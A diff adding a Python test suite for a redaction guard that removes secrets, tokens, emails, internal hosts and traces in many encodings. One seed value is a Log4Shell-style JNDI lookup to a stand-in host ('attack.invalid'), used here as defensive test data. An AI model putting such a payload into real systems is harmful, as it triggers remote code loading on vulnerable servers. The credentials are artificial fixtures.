@@ -1,0 +1,221 @@
+"""The guard as a choke point: what it learns is gone from every text, in every encoding, and stays gone."""
+
+from __future__ import annotations
+
+import base64
+import html
+import json
+import logging
+import textwrap
+from collections.abc import Callable
+from urllib.parse import quote, quote_plus
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from evreview.errors import Problem
+from evreview.guard import DETECTORS, Clean, Guard, Kind, guard_logs, visible
+from evreview.guard.scan import scan
+
+SECRET = "q7Rx2Lv9" + "tBzW/8+k&Y"
+LEARNT = f'db_password: "{SECRET}"'
+
+ENCODINGS: dict[str, Callable[[str], str]] = {
+    "plain": str,
+    "upper case": str.upper,
+    "base64": lambda v: base64.b64encode(v.encode()).decode(),
+    "base64 inside": lambda v: base64.b64encode(f"user:{v};".encode()).decode(),
+    "base64 inside, shifted": lambda v: base64.b64encode(f"us:{v};x".encode()).decode(),
+    "base64 url": lambda v: base64.urlsafe_b64encode(f"u:{v}".encode()).decode(),
+    "base64 in lines": lambda v: "\n".join(textwrap.wrap(base64.b64encode(v.encode()).decode(), 7)),
+    "hex": lambda v: v.encode().hex(),
+    "HEX": lambda v: v.encode().hex().upper(),
+    "url": lambda v: quote(v, safe=""),
+    "url, lower case": lambda v: quote(v, safe="").replace("%2F", "%2f"),
+    "url, twice": lambda v: quote(quote(v, safe=""), safe=""),
+    "url, plus": quote_plus,
+    "url, every character": lambda v: "".join(f"%{ord(c):02X}" for c in v),
+    "json": lambda v: json.dumps(v)[1:-1].replace("/", "\\/"),
+    "json, every character": lambda v: "".join(f"\\u{ord(c):04x}" for c in v),
+    "html": lambda v: html.escape(v),
+    "html numbers": lambda v: "".join(f"&#{ord(c)};" for c in v),
+    "html hex numbers": lambda v: "".join(f"&#x{ord(c):x};" for c in v),
+    "markdown": lambda v: v.replace("/", "\\/").replace("+", "\\+").replace("&", "\\&"),
+    "split over lines": lambda v: f"{v[:7]}\n    {v[7:]}",
+    "split in a string": lambda v: f'"{v[:7]}" +\n  "{v[7:]}"',
+    "split in json": lambda v: f"{v[:7]}\\n{v[7:]}",
+    "split in a cell": lambda v: f"{v[:7]}<br>{v[7:]}",
+    "zero width": lambda v: f"{v[:7]}\u200b{v[7:]}",
+    "terminal escape": lambda v: f"{v[:7]}\x1b[31m{v[7:]}",
+    "soft hyphen": lambda v: f"{v[:7]}\u00ad{v[7:]}",
+}
+
+SEEDS = {
+    "C-027": ("k8_signing_secret = ", "v3Lq9ZpT7wRb5YxK"),
+    "C-028": ("postgres://orders:", "q7Rx2Lv9tB"),
+    "C-029": ("X-Token: ", "gh" + "p_Zk3vR8tYq2LmN7wXc5Bh9JdF4sGp6TaUe1Ki"),
+    "C-030": ("reported by ", "ines.moreau" + "@harbourline.fr"),
+    "C-031": ("customer_id=", "C-48213977"),
+    "C-032": ("raised ", "org.harbour.orders.StoreException: row 17 is locked"),
+    "C-033": ("calls https://", "ledger-7.pay.internal"),
+    "C-034": ("payload ", "${jn" + "di:ldap://attack.invalid/a}"),
+}
+
+
+def seeded(number: str) -> tuple[str, str]:
+    lead, value = SEEDS[number]
+    tail = "@db.example.com/orders" if number == "C-028" else ""
+    return f"{lead}{value}{tail}", value
+
+
+@pytest.mark.req("C-027", "C-028", "C-029")
+@pytest.mark.parametrize("encode", ENCODINGS.values(), ids=ENCODINGS)
+def test_a_value_found_once_is_removed_in_every_encoding(encode: Callable[[str], str]) -> None:
+    guard = Guard.over([("E3", LEARNT)])
+    encoded = encode(SECRET)
+    clean = guard.clean(f"It says {encoded} here.")
+    assert encoded not in clean
+    assert SECRET not in clean
+    assert "[redacted: secret]" in clean
+    assert clean.startswith("It says ") and clean.endswith(" here.")
+    assert guard.leaks(f"It says {encoded} here.")
+    assert not guard.leaks(clean)
+
+
+@pytest.mark.parametrize(
+    ("number"), [pytest.param(number, marks=pytest.mark.req(number)) for number in SEEDS], ids=list(SEEDS)
+)
+def test_each_kind_of_value_is_learnt_and_removed(number: str) -> None:
+    text, value = seeded(number)
+    guard = Guard.over([("E5", f"line one\n{text}\n")])
+    assert [(found.location, found.lines) for found in guard.findings] == [("E5", (2,))] * len(guard.findings)
+    assert guard.findings
+    assert value not in repr(guard.findings) + repr(guard)
+    for elsewhere in (value, f"the value {value}.", base64.b64encode(value.encode()).decode(), quote(value, safe="")):
+        assert value not in guard.clean(elsewhere)
+        assert "[redacted: " in guard.clean(elsewhere)
+
+
+def test_a_basic_header_gives_its_password_away_nowhere() -> None:
+    header = "Authorization: Basic " + base64.b64encode(b"orders:q7Rx2Lv9tB").decode()
+    guard = Guard.over([("E1", header)])
+    assert "q7Rx2Lv9tB" not in guard.clean("the password q7Rx2Lv9tB is set")
+
+
+def test_a_password_of_a_url_is_removed_without_the_url() -> None:
+    guard = Guard.over([("E1", "amqp://svc:q7Rx2Lv9tB@mq.example.com")])
+    assert "q7Rx2Lv9tB" not in guard.clean("q7Rx2Lv9tB")
+
+
+def test_every_line_of_a_trace_is_removed_alone() -> None:
+    line = "at org.harbour.orders.Store.load(Store.java:88)"
+    guard = Guard.over([("E1", f"Exception\n\t{line}\n")])
+    assert "Store.java" not in guard.clean(f"we saw {line}")
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [detector.sample for detector in DETECTORS]
+            + [SECRET, "[redacted: token]", " ", "\n", '"', "%41", "&lt;", "\\", ":"]
+        ),
+        max_size=5,
+    ),
+    st.text(max_size=12),
+)
+@settings(max_examples=150, deadline=None)
+def test_cleaning_twice_changes_nothing(parts: list[str], text: str) -> None:
+    guard = Guard.over([("E3", LEARNT)])
+    clean = guard.clean(text.join(parts))
+    assert guard.clean(clean) == clean
+    assert guard.leaks(clean) == ()
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8", categories=["L", "P", "Zs", "S"]), max_size=60))
+@settings(max_examples=150, deadline=None)
+def test_words_without_values_stay(text: str) -> None:
+    if not scan(visible(text)) and not Guard().leaks(text):
+        assert Guard().clean(text) == visible(text)
+
+
+@given(st.text(max_size=60))
+def test_visible_twice_is_visible_once(text: str) -> None:
+    assert visible(visible(text)) == visible(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("a\x1b[31mred\x1b[0m", "ared"),
+        ("a\x1b]0;title\x07b", "ab"),
+        ("a\u202eb\u2066c", "abc"),
+        ("a\u200b\ufeffb", "ab"),
+        ("a\r\nb\rc", "a\nb\nc"),
+        ("a\x00b\x07", "a\ufffdb\ufffd"),
+        ("\ud800", "\ufffd"),
+        ("tab\tstays\n", "tab\tstays\n"),
+    ],
+)
+def test_acting_characters_are_stripped_or_shown(text: str, expected: str) -> None:
+    assert visible(text) == expected
+
+
+def test_keys_and_values_of_structures_are_cleaned() -> None:
+    guard = Guard.over([("E3", LEARNT)])
+    cleaned = guard.clean_json(
+        {SECRET: 1, f"{SECRET} ": [SECRET, {"password": "aQ7-lonely"}], "card": 4929718344152068, "n": 3, "t": True}
+    )
+    assert isinstance(cleaned, dict)
+    text = json.dumps(cleaned)
+    assert SECRET not in text and "aQ7-lonely" not in text and "4929718344152068" not in text
+    assert len(cleaned) == 5
+    assert cleaned["n"] == 3 and cleaned["t"] is True
+    assert guard.clean_json(cleaned) == cleaned
+
+
+def test_findings_are_sorted_counted_and_by_location() -> None:
+    guard = Guard.over([("E2", f"{LEARNT}\n{LEARNT}"), ("E1", "x 10.83.4.17 y")])
+    assert [(f.location, f.kind, f.lines, f.count) for f in guard.findings] == [
+        ("E1", Kind.PRIVATE_ENDPOINT, (1,), 1),
+        ("E2", Kind.SECRET, (1, 2), 2),
+    ]
+
+
+def test_short_values_do_not_hit_other_words() -> None:
+    guard = Guard.over([("E1", "password: orde7!")])
+    assert guard.clean("the disorde7!s stay") == "the disorde7!s stay"
+    assert guard.clean("it is orde7! now") == "it is [redacted: secret] now"
+
+
+def test_a_message_keeps_the_users_own_paths_but_not_the_evidences() -> None:
+    path, other = "/home/ines/review/review.yaml", "/home/otto/orders/handlers.py"
+    guard = Guard.over([("E1", f"File: {other}")])
+    assert path in guard.clean_message(f"{path}: bad")
+    assert other not in guard.clean_message(f"{other}: bad")
+    assert path not in guard.clean(f"{path}: bad")
+    problem = guard.clean_problem(Problem(code="x", found=f"found {other}", file=path))
+    assert (problem.file, problem.found) == (path, "found [redacted: file path]")
+
+
+def test_log_records_and_tracebacks_are_cleaned(caplog: pytest.LogCaptureFixture) -> None:
+    logger = logging.getLogger("evreview.test_guard")
+    guard_logs(Guard.over([("E3", LEARNT)]), logger)
+    with caplog.at_level(logging.INFO, logger=logger.name):
+        logger.info("read %s", SECRET)
+        try:
+            raise ValueError(SECRET)
+        except ValueError:
+            logger.exception("failed with %r", SECRET)
+    assert len(caplog.records) == 2
+    shown = caplog.text + "".join(record.getMessage() + (record.exc_text or "") for record in caplog.records)
+    assert SECRET not in shown
+
+
+def test_two_guards_over_the_same_texts_agree() -> None:
+    texts = [(f"E{n}", detector.sample) for n, detector in enumerate(DETECTORS, 1)]
+    one, two = Guard.over(texts), Guard.over(texts)
+    joined = "\n".join(text for _, text in texts)
+    assert one.findings == two.findings
+    assert one.clean(joined) == two.clean(joined)
+    assert isinstance(one.clean(joined), str) and one.clean(joined) == Clean(one.clean(joined))
